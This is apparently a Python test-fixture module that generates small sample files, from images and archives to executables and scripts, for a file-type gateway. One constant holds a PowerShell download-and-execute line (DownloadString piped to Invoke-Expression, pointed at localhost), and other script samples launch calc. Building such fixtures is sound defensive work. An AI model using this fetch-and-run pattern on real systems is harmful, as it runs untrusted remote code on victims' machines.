"""Small real files, made on the spot: what an ordinary gateway carries, and what is dangerous under a false name."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import wave
import zipfile
import zlib

import zstandard


def zip_of(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def tar_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, content in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return out.getvalue()


def png() -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def wav() -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(bytes(320))
    return out.getvalue()


def pe() -> bytes:
    return b"MZ" + bytes(58) + struct.pack("<I", 128) + bytes(64) + b"PE\x00\x00" + bytes(200)


def ole2(class_id: bytes = bytes(16)) -> bytes:
    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<H", head, 30, 9)
    struct.pack_into("<I", head, 48, 0)
    root = bytearray(512)
    root[80:96] = class_id
    return bytes(head + root)


HTML = b"<!DOCTYPE html>\n<html lang=en><head><title>Menu</title></head><body><p>Soup</p></body></html>"
JAVASCRIPT = b'/*! menu 1.2 */\n!function(e,t){"use strict";e.menu=t()}(window,function(){return {}});'
CSS = b"@charset 'utf-8';\nbody{margin:0;color:#222}\n.menu>li{float:left}"
JSON = json.dumps({"dishes": [{"name": "soup", "price": 4.5}]}).encode()
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0h1v1z"/></svg>'
XML = b'<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel><title>t</title></channel></rss>'
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + bytes(6) + b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00/\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
WOFF2 = b"wOF2\x00\x01\x00\x00" + bytes(40)
MP4 = b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41"
PLAIN = b"A note about soup. It was warm, and there was enough for two.\n"
SHELL = b"#!/bin/sh\nset -eu\necho installing\n"
POWERSHELL = b"$client = New-Object Net.WebClient\nInvoke-Expression $client.DownloadString('http://127.0.0.1/a')\n"
VBSCRIPT = b'Set shell = CreateObject("WScript.Shell")\nshell.Run "calc"\n'
BATCH = b"@echo off\r\nstart calc.exe\r\n"
LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46" + bytes(56)
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
DOCX = zip_of({"[Content_Types].xml": XML, "_rels/.rels": XML, "word/document.xml": XML})
XLSX = zip_of({"[Content_Types].xml": XML, "xl/workbook.xml": XML})
JAR = zip_of({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n", "A.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34"})
ODT = zip_of({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": XML}, zipfile.ZIP_STORED)
ONENOTE = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d" + bytes(40)
RTF = b"{\\rtf1\\ansi Soup}"
ZIP = zip_of({"soup.txt": PLAIN})
TAR = tar_of({"soup.txt": PLAIN})
GZIP = gzip.compress(PLAIN, mtime=0)
BZ2 = bz2.compress(PLAIN)
XZ = lzma.compress(PLAIN)
ZSTD = zstandard.compress(PLAIN)
SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24)
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(32)
CAB = b"MSCF\x00\x00\x00\x00" + bytes(28)
